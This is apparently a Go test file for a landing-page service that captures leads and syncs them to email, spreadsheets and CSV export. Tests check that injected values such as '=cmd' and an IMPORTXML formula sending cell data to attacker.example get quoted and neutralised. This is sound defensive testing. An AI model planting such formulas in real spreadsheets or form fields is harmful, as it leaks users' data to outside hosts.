package landingController_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"learnly/models"
	"learnly/services/leads"
	"learnly/services/mailer"
	"learnly/services/sheets"
	"learnly/testutil"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type recordingMailer struct {
	mu   sync.Mutex
	sent []mailer.Message
}

func (m *recordingMailer) Send(_ context.Context, msg mailer.Message) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sent = append(m.sent, msg)
	return nil
}

type recordingSheet struct {
	rows [][]interface{}
	rng  string
}

func (s *recordingSheet) AppendRow(_ context.Context, _ string, rng string, values []interface{}) error {
	s.rng = rng
	s.rows = append(s.rows, values)
	return nil
}

// inline runs lead deliveries synchronously with fake clients.
func inline(t *testing.T) (*recordingMailer, *recordingSheet) {
	m, s := &recordingMailer{}, &recordingSheet{}
	prevGo, prevMail, prevSheets := leads.Go, mailer.Default, sheets.Default
	leads.Go = func(fn func()) { fn() }
	mailer.Default, sheets.Default = m, s
	t.Cleanup(func() {
		leads.Go, mailer.Default, sheets.Default = prevGo, prevMail, prevSheets
	})
	return m, s
}

func TestPageLifecycleAndLeadCapture(t *testing.T) {
	db := testutil.NewDB(t)
	sent, sheet := inline(t)
	app := testutil.NewApp(t)
	owner := testutil.SeedUser(t, db, "owner@example.com", models.RoleConsultant)
	token := testutil.Token(t, owner)

	status, env := testutil.Do(t, app, http.MethodPost, "/landing-pages", token, map[string]interface{}{
		"kind":           "consultant",
		"slug":           "my-page",
		"title":          "My Page",
		"notify_email":   true,
		"sheet_sync":     true,
		"spreadsheet_id": "sheet-1",
		"config":         map[string]interface{}{"color": "blue"},
	})
	require.Equal(t, http.StatusCreated, status, env.Message)
	pageID := uint(env.Map()["id"].(float64))

	// drafts are not public
	status, _ = testutil.Do(t, app, http.MethodGet, "/lp/my-page", "", nil)
	assert.Equal(t, http.StatusNotFound, status)

	status, _ = testutil.Do(t, app, http.MethodPost, fmt.Sprintf("/landing-pages/%d/publish", pageID), token, nil)
	require.Equal(t, http.StatusOK, status)

	status, env = testutil.Do(t, app, http.MethodGet, "/lp/my-page", "", nil)
	require.Equal(t, http.StatusOK, status)
	assert.Equal(t, "My Page", env.Map()["title"])

	status, env = testutil.Do(t, app, http.MethodPost, "/lp/my-page/leads", "", map[string]interface{}{
		"name":    "Bruno",
		"email":   "Bruno@Example.com",
		"message": "Call me",
	})
	require.Equal(t, http.StatusCreated, status, env.Message)

	var lead models.Lead
	require.NoError(t, db.Where("landing_page_id = ?", pageID).First(&lead).Error)
	assert.Equal(t, "bruno@example.com", lead.Email)
	assert.Equal(t, models.SyncSynced, lead.SyncStatus)
	assert.NotNil(t, lead.NotifiedAt)

	require.Len(t, sent.sent, 1)
	assert.Equal(t, owner.Email, sent.sent[0].ToEmail)
	require.Len(t, sheet.rows, 1)
	assert.Equal(t, "Leads!A:H", sheet.rng)
	assert.Equal(t, "Bruno", sheet.rows[0][2])

	status, env = testutil.Do(t, app, http.MethodGet, fmt.Sprintf("/landing-pages/%d/leads", pageID), token, nil)
	require.Equal(t, http.StatusOK, status)
	assert.Len(t, env.Map()["items"], 1)
}

func TestLeadCaptureValidation(t *testing.T) {
	db := testutil.NewDB(t)
	inline(t)
	app := testutil.NewApp(t)
	owner := testutil.SeedUser(t, db, "owner@example.com", models.RoleUser)
	testutil.SeedLandingPage(t, db, owner.ID, "open", true)

	status, env := testutil.Do(t, app, http.MethodPost, "/lp/open/leads", "", map[string]interface{}{
		"name":  "B",
		"email": "nope",
	})
	assert.Equal(t, http.StatusBadRequest, status)
	assert.Contains(t, env.Details, "name")
	assert.Contains(t, env.Details, "email")

	status, _ = testutil.Do(t, app, http.MethodPost, "/lp/missing/leads", "", map[string]interface{}{
		"name":  "Bruno",
		"email": "bruno@example.com",
	})
	assert.Equal(t, http.StatusNotFound, status)
}

func TestLeadWithoutSheetIsSkipped(t *testing.T) {
	db := testutil.NewDB(t)
	sent, sheet := inline(t)
	app := testutil.NewApp(t)
	owner := testutil.SeedUser(t, db, "owner@example.com", models.RoleUser)
	page := testutil.SeedLandingPage(t, db, owner.ID, "plain", true)

	status, _ := testutil.Do(t, app, http.MethodPost, "/lp/plain/leads", "", map[string]interface{}{
		"name":  "Bruno",
		"email": "bruno@example.com",
	})
	require.Equal(t, http.StatusCreated, status)

	var lead models.Lead
	require.NoError(t, db.Where("landing_page_id = ?", page.ID).First(&lead).Error)
	assert.Equal(t, models.SyncSkipped, lead.SyncStatus)
	assert.Empty(t, sent.sent)
	assert.Empty(t, sheet.rows)
}

func TestPagesAreScopedToOwner(t *testing.T) {
	db := testutil.NewDB(t)
	inline(t)
	app := testutil.NewApp(t)
	owner := testutil.SeedUser(t, db, "owner@example.com", models.RoleUser)
	other := testutil.SeedUser(t, db, "other@example.com", models.RoleUser)
	page := testutil.SeedLandingPage(t, db, owner.ID, "mine", false)

	status, _ := testutil.Do(t, app, http.MethodGet, fmt.Sprintf("/landing-pages/%d", page.ID), testutil.Token(t, other), nil)
	assert.Equal(t, http.StatusNotFound, status)

	status, env := testutil.Do(t, app, http.MethodPost, "/landing-pages", testutil.Token(t, other), map[string]interface{}{
		"kind":  "client",
		"slug":  "mine",
		"title": "Copy",
	})
	assert.Equal(t, http.StatusBadRequest, status)
	assert.Equal(t, "CONFLICT", env.Error)

	status, _ = testutil.Do(t, app, http.MethodDelete, fmt.Sprintf("/landing-pages/%d", page.ID), testutil.Token(t, owner), nil)
	assert.Equal(t, http.StatusNoContent, status)

	// the slug is free again once the page is deleted
	status, env = testutil.Do(t, app, http.MethodPost, "/landing-pages", testutil.Token(t, other), map[string]interface{}{
		"kind":  "client",
		"slug":  "mine",
		"title": "Copy",
	})
	assert.Equal(t, http.StatusCreated, status, env.Message)
}

func TestExportLeadsCSV(t *testing.T) {
	db := testutil.NewDB(t)
	inline(t)
	app := testutil.NewApp(t)
	owner := testutil.SeedUser(t, db, "owner@example.com", models.RoleUser)
	page := testutil.SeedLandingPage(t, db, owner.ID, "csv", true)
	require.NoError(t, db.Create(&models.Lead{LandingPageID: page.ID, Name: "=cmd", Email: "a@example.com", SyncStatus: models.SyncSkipped}).Error)

	req := httptest.NewRequest(http.MethodGet, fmt.Sprintf("/landing-pages/%d/leads/export", page.ID), nil)
	req.Header.Set("Authorization", "Bearer "+testutil.Token(t, owner))
	resp, err := app.Test(req, -1)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.True(t, strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv"))

	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	records, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 2)
	assert.Equal(t, "id", records[0][0])
	assert.Equal(t, "'=cmd", records[1][2])
	assert.Equal(t, models.SyncSkipped, records[1][7])
}

func TestCapturedLeadIsQuotedInSheetRow(t *testing.T) {
	db := testutil.NewDB(t)
	_, sheet := inline(t)
	app := testutil.NewApp(t)
	owner := testutil.SeedUser(t, db, "owner@example.com", models.RoleUser)
	page := testutil.SeedLandingPage(t, db, owner.ID, "synced", true)
	require.NoError(t, db.Model(page).Updates(map[string]interface{}{"sheet_sync": true, "spreadsheet_id": "sheet-1"}).Error)

	formula := `=IMPORTXML("https://attacker.example/?"&A1,"//a")`
	status, env := testutil.Do(t, app, http.MethodPost, "/lp/synced/leads", "", map[string]interface{}{
		"name":    formula,
		"email":   "visitor@example.com",
		"message": "@SUM(1)",
	})
	require.Equal(t, http.StatusCreated, status, env.Message)

	require.Len(t, sheet.rows, 1)
	assert.Equal(t, "'"+formula, sheet.rows[0][2])
	assert.Equal(t, "'@SUM(1)", sheet.rows[0][5])
}

func TestLeadUserAgentIsClippedOnRuneBoundary(t *testing.T) {
	db := testutil.NewDB(t)
	inline(t)
	app := testutil.NewApp(t)
	owner := testutil.SeedUser(t, db, "owner@example.com", models.RoleUser)
	page := testutil.SeedLandingPage(t, db, owner.ID, "agents", true)

	req := httptest.NewRequest(http.MethodPost, "/lp/agents/leads",
		strings.NewReader(`{"name":"Ana","email":"ana@example.com"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("User-Agent", strings.Repeat("é", 200))
	resp, err := app.Test(req, -1)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)

	var lead models.Lead
	require.NoError(t, db.Where("landing_page_id = ?", page.ID).First(&lead).Error)
	assert.True(t, utf8.ValidString(lead.UserAgent))
	assert.Len(t, lead.UserAgent, 254)
}
